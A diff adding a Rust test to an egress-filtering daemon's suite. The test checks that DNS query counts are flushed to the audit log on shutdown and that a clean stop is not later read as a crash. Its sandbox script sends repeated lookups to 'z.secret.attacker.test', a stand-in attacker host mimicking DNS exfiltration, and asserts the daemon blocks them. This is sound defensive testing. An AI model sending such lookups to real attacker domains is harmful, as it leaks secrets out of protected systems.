@@ -482,6 +482,83 @@ fn a_name_asked_over_and_over_is_written_once_with_its_count() {
     );
 }
 
+/// Repeats counted but not yet written when egressd stops (SIGTERM, as systemd stops it) are
+/// written before it exits, ahead of its stop record, while the session asking them runs on; the
+/// stop record ends the log, so the next start reads a clean stop, not a crash.
+#[test]
+fn repeats_counted_when_the_daemon_stops_are_written_before_it_exits() {
+    const TIMES: u64 = 30;
+    let DnsWorld { server, mut w } = dns_world("dns-fold-stop");
+    let markers = w.scratch.0.join("markers");
+    fs::create_dir(&markers).unwrap();
+    fs::set_permissions(
+        &markers,
+        std::os::unix::fs::PermissionsExt::from_mode(0o777),
+    )
+    .unwrap();
+    let asked = markers.join("asked");
+    let probe = probe();
+    let script = format!(
+        "{} dns-query udp {STUB} z.secret.attacker.test A {TIMES} > /dev/null; touch {}; sleep 60",
+        probe.display(),
+        asked.display()
+    );
+    let mut sandbox = w
+        .daemon
+        .ctl(NOBODY)
+        .args(["run", "--", "sh", "-c", &script])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_until("the session to have asked", 15, || asked.exists());
+    w.daemon.stop();
+    let records = audit_records(&w.daemon);
+    let _ = sandbox.kill();
+    let _ = sandbox.wait();
+    let stop = records
+        .iter()
+        .position(|r| r["type"] == "daemon" && r["message"] == egressd_common::audit::STOP_MESSAGE)
+        .expect("the daemon's stop record");
+    let asked: Vec<(usize, &serde_json::Value)> = records
+        .iter()
+        .enumerate()
+        .filter(|(_, r)| r["type"] == "dns" && r["qname"] == "z.secret.attacker.test")
+        .collect();
+    assert!(
+        asked.iter().all(|(i, _)| *i < stop),
+        "a record after the stop"
+    );
+    let counted: u64 = asked
+        .iter()
+        .map(|(_, r)| r["count"].as_u64().unwrap_or(1))
+        .sum();
+    assert_eq!(counted, TIMES, "queries left unwritten at the stop");
+    assert_eq!(
+        asked.len(),
+        2,
+        "the first asking, then the repeats in one record"
+    );
+    assert!(
+        server.queries().is_empty(),
+        "a denied name reached the upstream"
+    );
+    // A record written after the stop record used to make the next egressd write a `crash`.
+    w.daemon.spawn();
+    // A session after the start: its records come after anything the start wrote.
+    let out = w.daemon.run(NOBODY, &["true"]);
+    records_after_end(&w.daemon, &session_id(&out));
+    let crashes: Vec<serde_json::Value> = audit_records(&w.daemon)
+        .into_iter()
+        .filter(|r| r["type"] == "crash")
+        .collect();
+    assert!(
+        crashes.is_empty(),
+        "a clean stop read as a crash: {crashes:?}"
+    );
+    w.daemon.stop();
+}
+
 #[test]
 fn getaddrinfo_in_a_sandbox_resolves_allowed_names_only() {
     let DnsWorld { server, w } = dns_world("dns-gai");
